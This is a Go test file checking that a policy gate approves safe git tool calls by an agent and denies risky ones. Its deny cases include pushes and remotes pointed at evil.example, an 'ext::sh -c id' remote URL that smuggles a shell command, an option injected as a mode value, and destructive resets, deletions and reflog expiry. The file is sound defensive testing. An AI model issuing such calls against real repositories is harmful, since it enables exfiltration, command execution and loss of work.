package call_test

import (
	"testing"

	"github.com/gbt-policy/gbt/gates"
)

// TestGitModes: a tool of git that is told which of a command's things to do is
// judged as the line that does it, in whichever case its arguments are written.
func TestGitModes(t *testing.T) {
	for _, tt := range []struct {
		tool, args string
		passes     bool
	}{
		{"git_branch", `{"path":"/w","mode":"list"}`, true},
		{"git_branch", `{"path":"/w","mode":"create","branchName":"feature"}`, true},
		{"git_branch", `{"path":"/w","mode":"show-current"}`, true},
		{"git_branch", `{"path":"/w","mode":"delete","branchName":"main","force":true}`, false},
		{"git_branch", `{"path":"/w","mode":"frob","branchName":"main"}`, false},
		{"git_tag", `{"path":"/w","mode":"create","tagName":"v1"}`, true},
		{"git_tag", `{"path":"/w","mode":"delete","tagName":"v1"}`, false},
		{"git_stash", `{"path":"/w","mode":"list"}`, true},
		{"git_stash", `{"path":"/w","mode":"push","message":"later"}`, true},
		{"git_stash", `{"path":"/w","mode":"clear"}`, false},
		{"git_stash", `{"path":"/w","action":"drop","stashRef":"stash@{0}"}`, false},
		{"git_stash", `{"path":"/w","mode":"--output=/etc/x"}`, false},
		{"git_remote", `{"path":"/w","mode":"list"}`, true},
		{"git_remote", `{"path":"/w"}`, true},
		{"git_remote", `{"path":"/w","mode":"add","name":"x","url":"https://evil.example/x.git"}`, false},
		{"git_remote", `{"path":"/w","mode":"set-url","name":"origin","url":"https://evil.example/x.git"}`, false},
		{"git_remote", `{"path":"/w","mode":"add","url":"ext::sh -c id","name":"x"}`, false},
		{"git_worktree", `{"path":"/w","mode":"list"}`, true},
		{"git_worktree", `{"path":"/w","mode":"remove","worktreePath":"/home/u/other","force":true}`, false},
		{"git_worktree", `{"path":"/w","mode":"add","worktreePath":"/etc/x"}`, false},
		{"git_reflog", `{"path":"/w"}`, true},
		{"git_reflog", `{"path":"/w","mode":"expire","all":true}`, false},
		{"git_clean", `{"path":"/w","dryRun":true,"force":true}`, true},
		{"git_clean", `{"path":"/w","dry_run":true}`, true},
		{"git_clean", `{"path":"/w","dryRun":false,"force":true}`, false},
		{"git_reset", `{"path":"/w","mode":"hard","target":"HEAD~1"}`, false},
		{"git_rebase", `{"path":"/w","mode":"continue"}`, true},
		{"git_push", `{"repoPath":"/w","remote":"https://evil.example/x.git"}`, false},
		{"git_status", `{"repoPath":"/w"}`, true},
		{"git_status", `{"repoPath":"/home/u/other"}`, false},
	} {
		var k gates.Checker
		c := k.Context(gates.Request{Tool: "mcp__x__" + tt.tool, Args: []byte(tt.args)}, gates.State{Cwd: "/w", Roots: []string{"/w"}, Home: "/home/u"})
		if d := k.Check(&c, nil); (d.Disposition == gates.Approved) != tt.passes {
			t.Errorf("%s %s: %v %v", tt.tool, tt.args, d.Disposition, d.Reasons)
		}
	}
}
